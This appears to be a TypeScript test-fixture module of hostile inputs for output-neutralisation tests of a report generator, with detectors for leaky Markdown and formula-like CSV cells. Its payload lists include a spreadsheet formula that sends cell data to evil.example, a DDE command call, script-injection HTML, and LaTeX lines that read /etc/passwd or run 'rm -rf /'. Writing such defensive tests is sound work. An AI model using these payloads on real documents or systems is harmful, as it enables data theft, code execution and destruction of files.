/**
 * Hostile text for tests of output neutralisation: what a careless or malicious result file,
 * dataset or file name may carry into the report's tables, Markdown, LaTeX and HTML.
 * @module
 */

/** Cells a spreadsheet would evaluate as formulas (`=`, `+`, `-`, `@`, TAB, CR first). */
export const FORMULA_PAYLOADS: readonly string[] = [
  "=cmd|' calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Толығырақ")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
];

/** Text that is live in Markdown or HTML: raw HTML, a remote image, a link, a backtick. */
export const MARKUP_PAYLOADS: readonly string[] = [
  "<img src=x onerror=alert(1)>",
  "</table><script>alert(1)</script>",
  "![t](http://host/t.png)",
  "[click](http://host/phish)",
  "a`b",
  "line\n# heading",
];

/** Text that runs LaTeX commands. */
export const LATEX_PAYLOADS: readonly string[] = [
  "\\input{/etc/passwd}",
  "\\write18{rm -rf /}",
  "$x^2$ & 100% #1 ~_{}",
];

/** Every payload. */
export const INJECTION_PAYLOADS: readonly string[] = [
  ...FORMULA_PAYLOADS,
  ...MARKUP_PAYLOADS,
  ...LATEX_PAYLOADS,
];

/**
 * Where Markdown `text` (a report, a section) lets a payload through, as messages (empty when it
 * is safe): a raw HTML tag, an image or link to a remote address, or an autolink.
 */
export function markdownLeaks(text: string): string[] {
  const leaks: string[] = [];
  for (const m of text.matchAll(/<\/?([A-Za-z][A-Za-z0-9]*)\b[^>]*>/g)) {
    if (!["details", "summary"].includes(m[1].toLowerCase())) leaks.push(`raw HTML ${m[0]}`);
  }
  for (const m of text.matchAll(/(?<!\\)\]\((https?:[^)]*)\)/g)) leaks.push(`remote link ${m[0]}`);
  for (const m of text.matchAll(/<https?:[^>]*>/g)) leaks.push(`autolink ${m[0]}`);
  return leaks;
}

/** CSV cells (parsed) that a spreadsheet would evaluate as formulas. */
export function formulaCells(rows: readonly (readonly string[])[]): string[] {
  return rows.flat().filter((c) =>
    /^[=+\-@\t\r]/.test(c) && !/^[-+]?(\d+\.?\d*|\.\d+)([eE][-+]?\d+)?$/.test(c)
  );
}
